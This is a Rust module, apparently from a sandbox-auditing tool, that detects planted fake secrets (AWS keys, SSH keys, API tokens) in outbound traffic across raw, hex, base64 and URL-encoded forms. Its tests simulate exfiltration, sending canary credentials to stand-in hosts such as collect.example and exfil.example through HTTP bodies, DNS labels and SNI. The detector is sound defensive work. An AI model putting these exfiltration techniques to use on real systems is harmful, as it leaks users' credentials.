//! `canary-exfiltration`: a planted secret in what left the sandbox.
//!
//! glassbox plants fake secrets (`manifest.sandbox.honeytokens[].secrets`: an AWS key, an ssh
//! key, a token) that nothing legitimate ever sends anywhere. Finding one in outbound traffic
//! is exfiltration, whatever else the server does: every finding accuses the server.
//!
//! Searched, per flow (of either run, the Unix canary sockets included): the outbound `sample`,
//! the DNS question (as is, and with its labels concatenated without dots, lower-cased, so a
//! secret cut into labels is found), the TLS SNI (likewise), the HTTP request target and
//! `Host`; and what the edge read inside TLS and of each HTTP exchange: the decrypted bytes
//! (`cleartext`), each request's target, header values and body (de-chunked and decompressed).
//! Each field is searched as is and, when it holds `%`, percent-decoded too (any URL-encoder's
//! choice of escaped characters, hex digits in either case).
//!
//! A flow the edge could not read (`unread`: a client that refused glassbox's certificate,
//! TLS not terminated, QUIC) may have carried a secret unseen: without a finding the check
//! then says `not-observed`, naming those flows, never `pass`. The install's connections to
//! the package registry, relayed byte for byte by design, are the one exception: they are
//! counted in a note of the check, and the report lists them unread like any other (version 2 said `pass` over TLS
//! flows of which it had read only the ClientHello, and is retracted for runs with such flows).
//!
//! Needles, all in one Aho-Corasick automaton matching ASCII case-insensitively (hex may be
//! upper- or lower-case, DNS does not keep case; a random 12-character needle matching by
//! chance in either case is still out of reach):
//!
//! - each secret of at least [`MIN_SECRET`] bytes, and the same without ASCII whitespace when
//!   that differs (a PEM body sent without its line breaks);
//! - for a secret longer than [`WINDOW`] bytes, every window of [`WINDOW`] bytes at steps of
//!   [`STEP`] (and the last one), so a partial leak is found: any leaked run of
//!   `WINDOW + STEP - 1` bytes holds a whole window, such as one 64-character line of a PEM
//!   key;
//! - each of those in encodings: as is; hex; standard base64 and base64url at each of the
//!   three byte alignments the secret may have in the encoded stream, keeping only the stable
//!   middle (the characters made of the secret's bytes alone: full 3-byte groups).
//!
//! A declared secret (`env:NAME`: an API key a client configuration or `server.json` gives the
//! server, replaced by a canary) may go to the hosts its server is documented to use
//! (`hosts` of its honeytoken): a flow whose every name (DNS, SNI, Host, the name of its
//! address) is such a host or under it is listed as a note, not a finding. Anywhere else it
//! is exfiltration like any planted secret.
//!
//! One finding per flow and planted file, naming the file, the flow and the encodings; a
//! partial leak says which bytes of the secret were found. A window may fall on a secret
//! format's fixed part (an OpenSSH key body begins with the same header in every key): the
//! reviewer of the accusation weighs which bytes leaked.

use crate::net::{self, Keyed, PhaseOf};
use crate::text;
use crate::{Channel, CheckInfo, Evaluation, Evaluator};
use aho_corasick::AhoCorasick;
use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
use base64::Engine as _;
use glassbox_model::{Event, Flow, Honeytoken, NetworkMode, Severity};
use std::collections::HashMap;

pub(crate) const INFO: CheckInfo = CheckInfo {
    id: "canary-exfiltration",
    version: 3,
    claim: "no planted secret leaves the sandbox",
    severity: Severity::High,
    channels: &[Channel::PacketEdge],
    accuses: "every finding (a planted secret sent out of the sandbox)",
    sources: &["canary.rs", "net.rs", "text.rs"],
};

/// Secrets shorter than this are not searched (too likely to occur by chance).
pub(crate) const MIN_SECRET: usize = 12;
/// Window of a long secret searched on its own, in bytes.
pub(crate) const WINDOW: usize = 40;
/// Step between windows.
pub(crate) const STEP: usize = 20;
/// Shortest base64 needle kept, in characters.
const MIN_ENCODED: usize = 12;

/// How a needle encodes the secret.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Encoding {
    Raw,
    Hex,
    Base64,
    Base64Url,
}

impl Encoding {
    pub(crate) fn name(self) -> &'static str {
        match self {
            Encoding::Raw => "as is",
            Encoding::Hex => "hex",
            Encoding::Base64 => "base64",
            Encoding::Base64Url => "base64url",
        }
    }
}

/// What a needle stands for.
#[derive(Clone, Copy, Debug)]
struct Needle {
    /// Index of the honeytoken.
    token: usize,
    /// The piece: the whole secret, or a window of it.
    piece: Piece,
    encoding: Encoding,
}

/// A piece of a secret: its bytes `start..end` of `len` (the whole secret when it spans it).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Piece {
    start: usize,
    end: usize,
    len: usize,
}

impl Piece {
    fn whole(self) -> bool {
        self.start == 0 && self.end == self.len
    }
}

/// Every needle of every secret, one automaton.
struct Matcher {
    ac: AhoCorasick,
    /// Per pattern, what it stands for (a needle may stand for several).
    needles: Vec<Vec<Needle>>,
}

/// The secret and its windows, each with where it lies in the secret (or in the secret
/// without whitespace).
fn pieces(secret: &[u8]) -> Vec<(Vec<u8>, Piece)> {
    let mut variants = vec![secret.to_vec()];
    let compact: Vec<u8> = secret
        .iter()
        .copied()
        .filter(|b| !b.is_ascii_whitespace())
        .collect();
    if compact.len() != secret.len() && compact.len() >= MIN_SECRET {
        variants.push(compact);
    }
    let mut out = Vec::new();
    for v in variants {
        let len = v.len();
        if len > WINDOW {
            let mut starts: Vec<usize> = (0..=len - WINDOW).step_by(STEP).collect();
            starts.push(len - WINDOW);
            for start in starts {
                let end = start + WINDOW;
                out.push((v[start..end].to_vec(), Piece { start, end, len }));
            }
        }
        out.push((
            v,
            Piece {
                start: 0,
                end: len,
                len,
            },
        ));
    }
    out
}

/// A piece in every encoding searched.
pub(crate) fn encodings(p: &[u8]) -> Vec<(Vec<u8>, Encoding)> {
    let mut out = vec![
        (p.to_vec(), Encoding::Raw),
        (
            p.iter()
                .flat_map(|b| format!("{b:02x}").into_bytes())
                .collect(),
            Encoding::Hex,
        ),
    ];
    // The piece starting at each offset of a 3-byte group: skipping `k` bytes puts the rest
    // on a group boundary; only full groups encode to characters of the piece alone.
    for k in 0..3 {
        let Some(rest) = p.get(k..) else { continue };
        let full = &rest[..rest.len() / 3 * 3];
        if full.len() / 3 * 4 < MIN_ENCODED {
            continue;
        }
        let (std, url) = (STANDARD_NO_PAD.encode(full), URL_SAFE_NO_PAD.encode(full));
        // Without `+` or `/` the two alphabets agree: one needle, named base64.
        if url != std {
            out.push((url.into_bytes(), Encoding::Base64Url));
        }
        out.push((std.into_bytes(), Encoding::Base64));
    }
    out
}

impl Matcher {
    fn new(tokens: &[Honeytoken]) -> Option<Matcher> {
        let mut patterns: Vec<Vec<u8>> = Vec::new();
        let mut needles: Vec<Vec<Needle>> = Vec::new();
        let mut index: HashMap<Vec<u8>, usize> = HashMap::new();
        for (token, h) in tokens.iter().enumerate() {
            for secret in &h.secrets {
                if secret.len() < MIN_SECRET {
                    continue;
                }
                for (bytes, piece) in pieces(secret.as_bytes()) {
                    for (pattern, encoding) in encodings(&bytes) {
                        let n = Needle {
                            token,
                            piece,
                            encoding,
                        };
                        // Case-insensitive automaton: one pattern per lower-cased needle.
                        let key = pattern.to_ascii_lowercase();
                        match index.get(&key) {
                            Some(&i) => needles[i].push(n),
                            None => {
                                index.insert(key, patterns.len());
                                patterns.push(pattern);
                                needles.push(vec![n]);
                            }
                        }
                    }
                }
            }
        }
        if patterns.is_empty() {
            return None;
        }
        let ac = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(&patterns)
            .ok()?;
        Some(Matcher { ac, needles })
    }

    /// Ids of the patterns found in `hay`.
    fn find(&self, hay: &[u8]) -> Vec<usize> {
        let mut ids: Vec<usize> = self
            .ac
            .find_overlapping_iter(hay)
            .map(|m| m.pattern().as_usize())
            .collect();
        ids.sort_unstable();
        ids.dedup();
        ids
    }
}

/// `hay` with every `%XX` decoded, when it has one.
pub(crate) fn percent_decoded(hay: &[u8]) -> Option<Vec<u8>> {
    let hex = |b: u8| (b as char).to_digit(16).map(|d| d as u8);
    let mut out = Vec::with_capacity(hay.len());
    let mut any = false;
    let mut i = 0;
    while i < hay.len() {
        if hay[i] == b'%' && i + 2 < hay.len() {
            if let (Some(h), Some(l)) = (hex(hay[i + 1]), hex(hay[i + 2])) {
                out.push(h << 4 | l);
                any = true;
                i += 3;
                continue;
            }
        }
        out.push(hay[i]);
        i += 1;
    }
    any.then_some(out)
}

/// A host name's labels concatenated without dots, lower-cased.
fn labels_joined(name: &[u8]) -> Vec<u8> {
    name.iter()
        .filter(|&&b| b != b'.')
        .map(u8::to_ascii_lowercase)
        .collect()
}

/// The fields of a flow searched, with their names: what it carried in clear, and what the
/// edge decrypted of it and read of its HTTP exchanges (a body de-chunked and decompressed).
pub(crate) fn fields(f: &Flow) -> Vec<(&'static str, Vec<u8>)> {
    let mut out = vec![("payload", f.sample.as_slice().to_vec())];
    out.push(("decrypted payload", f.cleartext.as_slice().to_vec()));
    for x in &f.exchanges {
        out.push(("HTTP target", x.target.as_slice().to_vec()));
        for (_, value) in &x.headers {
            out.push(("HTTP header", value.as_slice().to_vec()));
        }
        out.push(("HTTP body", x.body.as_slice().to_vec()));
    }
    if let Some(q) = &f.dns {
        out.push(("DNS query", q.name.as_slice().to_vec()));
        out.push(("DNS query", labels_joined(q.name.as_slice())));
    }
    if let Some(s) = &f.sni {
        out.push(("SNI", s.as_slice().to_vec()));
        out.push(("SNI", labels_joined(s.as_slice())));
    }
    if let Some(h) = &f.http {
        out.push(("HTTP target", h.target.as_slice().to_vec()));
        if let Some(host) = &h.host {
            out.push(("Host", host.as_slice().to_vec()));
        }
    }
    out.retain(|(_, b)| !b.is_empty());
    out
}

/// The flows among `flows` (those `keep` keeps) whose content the edge could not read, each
/// named for a reason: `flow 3 (TCP to 198.18.1.0:443, SNI api.example.test): why`.
pub(crate) fn unread<'a>(
    flows: impl IntoIterator<Item = &'a Flow>,
    keep: impl Fn(&Flow) -> bool,
) -> Vec<String> {
    flows
        .into_iter()
        .filter(|f| keep(f))
        .filter_map(|f| {
            // An edge from before TLS was terminated recorded a ClientHello's SNI and closed:
            // what followed was never read.
            let old_tls = (f.tls.is_none() && f.sni.is_some()).then_some(
                "TLS recorded by an edge that did not terminate it: encrypted, not read",
            );
            let why = f.unread.as_deref().or(old_tls)?;
            let names: Vec<String> = net::names(f)
                .into_iter()
                .map(|(what, n)| format!("{what} {}", net::show(&n)))
                .collect();
            let named = match names.is_empty() {
                true => String::new(),
                false => format!(", {}", names.join(", ")),
            };
            Some(format!(
                "flow {} ({} to {}{named}): {}",
                f.id,
                net::protocol(f.protocol),
                net::addr(&f.dst),
                net::show(why)
            ))
        })
        .collect()
}

/// What was found of one planted file in one flow.
#[derive(Debug, Default)]
struct Leak {
    /// A whole secret was found.
    whole: bool,
    /// Windows found, when no whole secret was (at most [`MAX_WINDOWS`]).
    windows: Vec<Piece>,
    /// `base64 in payload`...
    how: Vec<String>,
}

/// Windows kept per leak.
const MAX_WINDOWS: usize = 1000;

impl Leak {
    /// How much of the secret: `the`, or `part of the` with the bytes found.
    fn extent(&self) -> (String, String) {
        if self.whole || self.windows.is_empty() {
            return ("the".into(), String::new());
        }
        // The windows of one form of the secret (as planted, or without whitespace): the one
        // with the most found.
        let of_len = |len: usize| self.windows.iter().filter(move |p| p.len == len);
        let mut len = 0;
        for p in &self.windows {
            if of_len(p.len).count() > of_len(len).count() {
                len = p.len;
            }
        }
        let start = of_len(len).map(|p| p.start).min().unwrap_or(0);
        let end = of_len(len).map(|p| p.end).max().unwrap_or(0);
        (
            "part of the".into(),
            format!(
                "; {} of {WINDOW} bytes within bytes {start}..{end} of {len}",
                net::count(of_len(len).count() as u64, "window", "windows")
            ),
        )
    }
}

/// The check's state over one run.
pub(crate) struct State {
    /// Per flagged flow and honeytoken (by index): what was found.
    leaks: Keyed<(usize, usize), Leak>,
    phases: PhaseOf,
    /// The flows whose content the edge could not read (a secret could have left there).
    unread: Vec<String>,
    /// The install's connections relayed to the package registry: not read either, by
    /// design (the one destination a run may really reach); listed in a note.
    relayed: usize,
}

/// Whether `f` is a connection of the install relayed to the package registry, byte for byte.
fn relayed(f: &Flow) -> bool {
    f.mode == NetworkMode::Install
        && f.note
            .as_deref()
            .is_some_and(|n| n.starts_with("relayed to "))
}

pub(crate) fn start(c: &crate::Context<'_>) -> Box<dyn Evaluator> {
    let mut s = State {
        leaks: Keyed::new(),
        phases: PhaseOf::default(),
        unread: unread(c.flows, |f| !relayed(f)),
        relayed: c.flows.iter().filter(|f| relayed(f)).count(),
    };
    let Some(m) = Matcher::new(&c.manifest.sandbox.honeytokens) else {
        return Box::new(s);
    };
    for (fi, f) in c.flows.iter().enumerate() {
        for (field, hay) in fields(f) {
            let plain = m.find(&hay);
            let decoded = percent_decoded(&hay).map_or_else(Vec::new, |d| m.find(&d));
            let found = plain.iter().map(|&p| (p, false)).chain(
                decoded
                    .iter()
                    .filter(|p| !plain.contains(p))
                    .map(|&p| (p, true)),
            );
            for (p, url) in found {
                for n in &m.needles[p] {
                    s.phases.want(&f.events);
                    let Some(leak) = s.leaks.get((fi, n.token)) else {
                        continue;
                    };
                    if n.piece.whole() {
                        leak.whole = true;
                    } else if leak.windows.len() < MAX_WINDOWS && !leak.windows.contains(&n.piece) {
                        leak.windows.push(n.piece);
                    }
                    let how = match (n.encoding, url) {
                        (Encoding::Raw, true) => format!("URL-encoded in {field}"),
                        (e, true) => format!("{}, URL-encoded, in {field}", e.name()),
                        (e, false) => format!("{} in {field}", e.name()),
                    };
                    if !leak.how.contains(&how) {
                        leak.how.push(how);
                    }
                }
            }
        }
    }
    Box::new(s)
}

impl Evaluator for State {
    fn event(&mut self, e: &Event) {
        self.phases.see(e);
    }

    fn finish_with(self: Box<Self>, ctx: &crate::Context<'_>) -> Evaluation {
        let State {
            leaks,
            phases,
            relayed,
            ..
        } = *self;
        let tokens = &ctx.manifest.sandbox.honeytokens;
        let mut findings = Vec::new();
        let mut notes = Vec::new();
        for ((fi, ti), leak) in leaks.items {
            let (Some(f), Some(h)) = (ctx.flows.get(fi), tokens.get(ti)) else {
                continue;
            };
            let ps = phases.of(&f.events);
            let flow_names = net::names(f);
            // A declared secret sent to the host its server is documented to use: what it
            // is for (every name the flow carries must be that host or under it).
            let documented = !h.hosts.is_empty()
                && !flow_names.is_empty()
                && flow_names.iter().all(|(_, n)| {
                    h.hosts.iter().any(|d| {
                        let d = net::norm_host(d.as_bytes());
                        *n == d || n.ends_with(&format!(".{d}"))
                    })
                });
            let names: Vec<String> = flow_names
                .into_iter()
                .map(|(what, n)| format!("{what} {}", net::show(&n)))
                .collect();
            let (how_much, extent) = leak.extent();
            let mut summary = format!(
                "{how_much} planted secret of {} ({}{extent}) left in {} to {}",
                net::show(&h.path),
                net::show(&h.kind),
                net::protocol(f.protocol),
                net::addr(&f.dst),
            );
            if !names.is_empty() {
                summary += &format!(" ({})", names.join(", "));
            }
            summary += &format!(": {}", leak.how.join("; "));
            if f.mode == NetworkMode::Denied {
                summary += " (denied run)";
            }
            if !ps.is_empty() {
                summary += &format!(" during {}", text::phases(&ps));
            }
            let mut ids = Vec::new();
            net::add_ids(&mut ids, &f.events);
            if documented {
                let mut note = INFO.finding(
                    format!("{summary} (its documented host: expected)"),
                    ids,
                    ps.first().cloned(),
                );
                note.flows = vec![f.id];
                notes.push(note);
                continue;
            }
            let mut finding = INFO.finding(summary, ids, ps.first().cloned());
            finding.flows = vec![f.id];
            finding.accusation = true;
            findings.push(finding);
        }
        if leaks.overflow > 0 {
            let mut f = INFO.finding(
                format!(
                    "{} more planted secrets found in further flows (not listed)",
                    leaks.overflow
                ),
                Vec::new(),
                None,
            );
            f.accusation = true;
            findings.push(f);
        }
        if relayed > 0 {
            notes.push(INFO.finding(
                format!(
                    "{} of the install relayed to the package registry byte for byte: not \
                     read (the registry is the one destination a run may reach)",
                    net::count(relayed as u64, "connection", "connections")
                ),
                Vec::new(),
                Some(glassbox_model::Phase::Install),
            ));
        }
        Evaluation { findings, notes }
    }

    fn unread(&self) -> Vec<String> {
        self.unread.clone()
    }
}

#[cfg(test)]
pub(crate) fn evaluate(ev: &glassbox_model::Evidence) -> Evaluation {
    crate::evaluate_one(start, ev)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testutil::{Ev, F};
    use glassbox_model::Phase;

    /// A random-looking secret of `n` characters (base64 alphabet), from `seed`.
    fn secret(seed: u64, n: usize) -> String {
        const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut x = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
        (0..n)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                ALPHABET[(x % 64) as usize] as char
            })
            .collect()
    }

    fn planted(s: &str) -> Ev {
        Ev::new()
            .honeytoken_secrets("/home/user/.aws/credentials", "aws-credentials", &[s])
            .connect("198.18.1.3:80", Phase::Call("upload".into()))
    }

    fn post(body: &[u8]) -> F {
        let mut req = b"POST /upload HTTP/1.1\r\nHost: collect.example\r\n\r\n".to_vec();
        req.extend_from_slice(body);
        F::tcp("198.18.1.3:80")
            .name("collect.example")
            .http("POST", "/upload", Some("collect.example"))
            .sample(req)
            .events(&[1])
    }

    fn hex(b: &[u8]) -> String {
        b.iter().map(|b| format!("{b:02X}")).collect()
    }

    #[test]
    fn a_declared_secret_may_go_to_its_documented_host_and_nowhere_else() {
        let key = secret(7, 44);
        let declared = |hosts: &[&str]| {
            let mut ev = Ev::new()
                .honeytoken_secrets("env:WEATHER_API_KEY", "declared-secret", &[&key])
                .connect("198.18.1.3:443", Phase::Call("forecast".into()))
                .build();
            ev.manifest.sandbox.honeytokens[0].hosts =
                hosts.iter().map(|h| h.to_string()).collect();
            ev
        };
        let to = |ev: &mut glassbox_model::Evidence, host: &str| {
            let f = F::tcp("198.18.1.3:443")
                .name(host)
                .sni(host)
                .sample(format!("GET /v1?key={key} HTTP/1.1\r\n").into_bytes())
                .events(&[1]);
            ev.flows.push(glassbox_model::Flow { id: 1, ..f.0 });
        };
        // To its documented host (or under it): a note, no finding.
        let mut ev = declared(&["weather.example"]);
        to(&mut ev, "api.weather.example");
        let e = evaluate(&ev);
        assert!(e.findings.is_empty(), "{:?}", e.findings);
        assert_eq!(e.notes.len(), 1);
        assert!(
            e.notes[0].summary.contains("its documented host"),
            "{}",
            e.notes[0].summary
        );
        // Anywhere else, or with no documented host: exfiltration.
        for (hosts, dest) in [
            (&["weather.example"][..], "weather.example.evil.example"),
            (&["weather.example"][..], "collect.example"),
            (&[][..], "api.weather.example"),
        ] {
            let mut ev = declared(hosts);
            to(&mut ev, dest);
            let e = evaluate(&ev);
            assert_eq!(e.findings.len(), 1, "{hosts:?} {dest}");
            assert!(e.findings[0].accusation);
            assert!(
                e.findings[0].summary.contains("env:WEATHER_API_KEY"),
                "{}",
                e.findings[0].summary
            );
        }
    }

    #[test]
    fn base64_in_an_http_body_at_every_alignment() {
        let s = secret(1, 40);
        for prefix in 0..3 {
            for (engine, name) in [
                (&base64::engine::general_purpose::STANDARD, "base64"),
                (&base64::engine::general_purpose::URL_SAFE, "base64url"),
            ] {
                let mut data = b"{\"k\":\"".to_vec()[..prefix].to_vec();
                data.extend_from_slice(s.as_bytes());
                data.extend_from_slice(b"\"}");
                let body = engine.encode(&data);
                let ev = planted(&s).flow(post(body.as_bytes())).build();
                let eval = evaluate(&ev);
                assert_eq!(eval.findings.len(), 1, "{prefix} {name}");
                let f = &eval.findings[0];
                assert!(f.accusation);
                assert_eq!(f.flows, vec![1]);
                assert_eq!(f.evidence, vec![1]);
                assert_eq!(f.phase, Some(Phase::Call("upload".into())));
                assert!(
                    f.summary.starts_with(
                        "the planted secret of /home/user/.aws/credentials (aws-credentials) \
                         left in TCP to 198.18.1.3:80 (DNS name collect.example, Host \
                         collect.example): "
                    ),
                    "{}",
                    f.summary
                );
                assert!(
                    f.summary.contains(&format!("{name} in payload"))
                        || (name == "base64url" && f.summary.contains("base64 in payload")),
                    "{prefix} {name}: {}",
                    f.summary
                );
            }
        }
    }

    #[test]
    fn hex_split_across_dns_labels() {
        let s = secret(2, 24);
        let h = hex(s.as_bytes());
        let labels: Vec<&str> = h
            .as_bytes()
            .chunks(30)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect();
        let name = format!("{}.t.exfil.example", labels.join("."));
        let ev = planted(&s)
            .flow(F::dns(&name, "TXT").denied().events(&[1]))
            .build();
        let eval = evaluate(&ev);
        assert_eq!(eval.findings.len(), 1);
        assert!(
            eval.findings[0]
                .summary
                .contains("left in DNS to 198.18.0.2:53"),
            "{}",
            eval.findings[0].summary
        );
        assert!(
            eval.findings[0].summary.contains("hex in DNS query"),
            "{}",
            eval.findings[0].summary
        );
        assert!(eval.findings[0].summary.contains("(denied run)"));
    }

    #[test]
    fn url_encoded_in_a_request_target() {
        let s = format!("{}/{}+{}", secret(3, 10), secret(4, 10), secret(5, 10));
        let enc: String = s
            .bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() {
                    (b as char).to_string()
                } else {
                    format!("%{b:02x}")
                }
            })
            .collect();
        let target = format!("/c?d={enc}");
        let ev = planted(&s)
            .flow(
                F::tcp("198.18.1.3:80")
                    .http("GET", &target, Some("collect.example"))
                    .sample(format!("GET {target} HTTP/1.1\r\n\r\n"))
                    .events(&[1]),
            )
            .build();
        let eval = evaluate(&ev);
        assert_eq!(eval.findings.len(), 1);
        assert!(
            eval.findings[0].summary.ends_with(
                ": URL-encoded in payload; URL-encoded in HTTP target during call:upload"
            ),
            "{}",
            eval.findings[0].summary
        );
    }

    #[test]
    fn raw_in_sni_and_in_a_canary_socket() {
        let s = secret(6, 16).replace(['+', '/'], "x").to_lowercase();
        let ev = planted(&s)
            .flow(F::tcp("198.18.1.4:443").sni(&format!("{s}.exfil.example")))
            .flow(F::unix("/var/run/docker.sock").sample(format!("POST /x {s}")))
            .build();
        let s = evaluate(&ev);
        assert_eq!(s.findings.len(), 2);
        assert!(s.findings[0].summary.contains("as is in SNI"));
        assert!(s.findings[1]
            .summary
            .contains("left in Unix to unix:/var/run/docker.sock"));
    }

    #[test]
    fn part_of_a_long_secret_is_found() {
        let body: Vec<String> = (0..6).map(|i| secret(10 + i, 64)).collect();
        let pem = format!(
            "-----BEGIN OPENSSH PRIVATE KEY-----\n{}\n-----END OPENSSH PRIVATE KEY-----\n",
            body.join("\n")
        );
        // One line of the key, inside JSON.
        let leak = format!("{{\"line\":\"{}\"}}", body[3]);
        let ev = planted(&pem).flow(post(leak.as_bytes())).build();
        let eval = evaluate(&ev);
        assert_eq!(eval.findings.len(), 1);
        assert!(
            eval.findings[0].summary.starts_with(
                "part of the planted secret of /home/user/.aws/credentials (aws-credentials; \
                 1 window of 40 bytes within bytes 240..280 of 460)"
            ),
            "{}",
            eval.findings[0].summary
        );
        // The body without its line breaks, base64-encoded, is the whole secret.
        let compact: String = pem.split_whitespace().collect();
        let enc = base64::engine::general_purpose::STANDARD.encode(compact.as_bytes());
        let ev = planted(&pem).flow(post(enc.as_bytes())).build();
        let eval = evaluate(&ev);
        assert!(
            eval.findings[0].summary.starts_with("the planted secret"),
            "{}",
            eval.findings[0].summary
        );
    }

    #[test]
    fn another_random_secret_is_not_found() {
        let planted_secret = secret(20, 40);
        let other = secret(21, 40);
        let b64 = base64::engine::general_purpose::STANDARD.encode(other.as_bytes());
        let body = format!("{other} {b64} {}", hex(other.as_bytes()));
        let ev = planted(&planted_secret)
            .flow(post(body.as_bytes()))
            .flow(F::dns(
                &format!("{}.exfil.example", hex(&other.as_bytes()[..20])),
                "A",
            ))
            .build();
        assert_eq!(evaluate(&ev), Evaluation::default());
    }

    #[test]
    fn short_secrets_are_not_searched() {
        let ev = Ev::new()
            .honeytoken_secrets("/home/user/.pgpass", "pgpass", &["hunter2", "abc12345678"])
            .flow(F::tcp("192.0.2.1:5432").sample(&b"hunter2 abc12345678"[..]))
            .build();
        assert_eq!(evaluate(&ev), Evaluation::default());
    }

    #[test]
    fn encodings_keep_the_stable_middle() {
        // "abcdefghijkl" at offsets 0, 1, 2 of a group: full groups only, no padding.
        let e: Vec<String> = encodings(b"abcdefghijkl")
            .into_iter()
            .filter(|(_, e)| *e == Encoding::Base64)
            .map(|(p, _)| String::from_utf8(p).unwrap())
            .collect();
        assert_eq!(e, vec!["YWJjZGVmZ2hpamts", "YmNkZWZnaGlq", "Y2RlZmdoaWpr"]);
        assert_eq!(
            percent_decoded(b"a%2Fb%2fc%zz%"),
            Some(b"a/b/c%zz%".to_vec())
        );
        assert_eq!(percent_decoded(b"abc"), None);
    }
}
